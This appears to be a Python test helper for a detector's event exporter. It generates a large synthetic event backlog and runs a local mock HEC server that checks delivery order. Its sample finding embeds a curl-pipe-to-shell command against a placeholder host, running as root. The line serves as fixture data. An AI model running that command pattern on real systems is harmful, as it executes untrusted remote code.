"""A long backlog: how it is made, and a HEC server that knows what has to come, and in which order.

Event ``number`` is a function of its number, so nobody has to remember a million of them. A thousand sessions
at a time tell what sessions tell: all open (lane ``risk``), go on twice, and close (lane ``context``).
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import threading
from dataclasses import replace
from hashlib import blake2b
from typing import TYPE_CHECKING, Any, Final, Self

from detector.events import Event, Lane
from detector.types import CommandLine, Evidence, Finding
from exporter.event import encode
from exporter.settings import EventSettings
from store.seams import Commit
from store.sqlite import SqliteStore
from tests.exporter.findings import CLOSED, ONGOING, OPENED, told

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ROOM: Final = 8 << 30
"""``state.max_size`` of a service that has so much to deliver."""
_ABREAST: Final = 1_000
_STORY: Final = 4
_AT_ONCE: Final = 20_000
_ACCEPTED: Final = b'{"text":"Success","code":0}'


def _template(finding: Finding) -> bytes:
    """An event with places for its id, its session's id, and what no compressor can make small."""
    line = CommandLine("bash -c 'curl -s https://example.invalid/@L@ | sh'", 180)
    marked = replace(
        finding, event_id="@E@", session_id="@S@", evidence=Evidence(0, 1, "/usr/bin/bash", "root", line)
    )
    body = encode(told(marked), EventSettings()).body.replace(b"%", b"%%")
    return body.replace(b"@E@", b"%s", 1).replace(b"@S@", b"%s", 1).replace(b"@L@", b"%s", 1)


_TEMPLATES: Final = tuple(_template(finding) for finding in (OPENED, ONGOING, ONGOING, CLOSED))


def lane_of(number: int) -> Lane:
    return Lane.CONTEXT if number // _ABREAST % _STORY else Lane.RISK


def id_of(number: int) -> str:
    return f"{number:08x}-0000-5000-8000-000000000000"


def body_of(number: int) -> bytes:
    block, within = divmod(number, _ABREAST * _STORY)
    session = b"%08x-0000-5000-8000-ffffffffffff" % (block * _ABREAST + within % _ABREAST)
    noise = blake2b(number.to_bytes(8), digest_size=64).hexdigest().encode()
    return _TEMPLATES[within // _ABREAST] % (id_of(number).encode(), session, noise)


def build(folder: Path, count: int) -> None:
    """Leave a state in which ``count`` events wait, through the store's own API."""
    store = SqliteStore(folder, max_size=ROOM)
    for first in range(0, count, _AT_ONCE):
        numbers = range(first, min(first + _AT_ONCE, count))
        store.commit(
            Commit(events=tuple(Event(lane_of(each), id_of(each), body_of(each)) for each in numbers))
        )
    store.close()


def _due(count: int, lane: Lane) -> Iterator[bytes]:
    """The events of a lane, in order."""
    return (body_of(number) for number in range(count) if lane_of(number) is lane)


class OrderedHec:
    """Takes events 0 to ``count`` of the backlog; each lane's must come in order, byte for byte.

    What is wrong is in ``wrong``: what had to come, and what came. ``right`` counts the others.
    """

    def __init__(self, count: int) -> None:
        self.right = 0
        self.wrong: list[tuple[bytes, bytes]] = []
        self._due = {lane: _due(count, lane) for lane in (Lane.RISK, Lane.CONTEXT)}
        self._connections: list[socket.socket] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        self._threads = [threading.Thread(target=self._accept)]

    def __enter__(self) -> Self:
        self._threads[0].start()
        return self

    def __exit__(self, *_: object) -> None:
        for each in (self._listener, *self._connections):
            with contextlib.suppress(OSError):  # it is closed already
                each.shutdown(socket.SHUT_RDWR)
            each.close()
        for thread in self._threads:
            thread.join()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):  # how it ends
            while True:
                connection, _ = self._listener.accept()
                self._connections.append(connection)
                self._threads.append(threading.Thread(target=self._serve, args=(connection,)))
                self._threads[-1].start()

    def _serve(self, connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection.makefile("rb") as stream:
            while body := _request(stream):
                for line in body.split(b"\n"):
                    self._take(line)
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                    % (len(_ACCEPTED), _ACCEPTED)
                )

    def _take(self, line: bytes) -> None:
        due = next(self._due[Lane.RISK if b'"index":"risk"' in line else Lane.CONTEXT], b"nothing more")
        if line == due:
            self.right += 1
        elif len(self.wrong) < 10:
            self.wrong.append((due, line))


def _request(stream: Any) -> bytes:
    """The body of the next request; none if there is no other."""
    length = 0
    while line := stream.readline().strip().lower():
        name, _, value = line.partition(b":")
        if name == b"content-length":
            length = int(value)
    return gzip.decompress(stream.read(length)) if length else b""
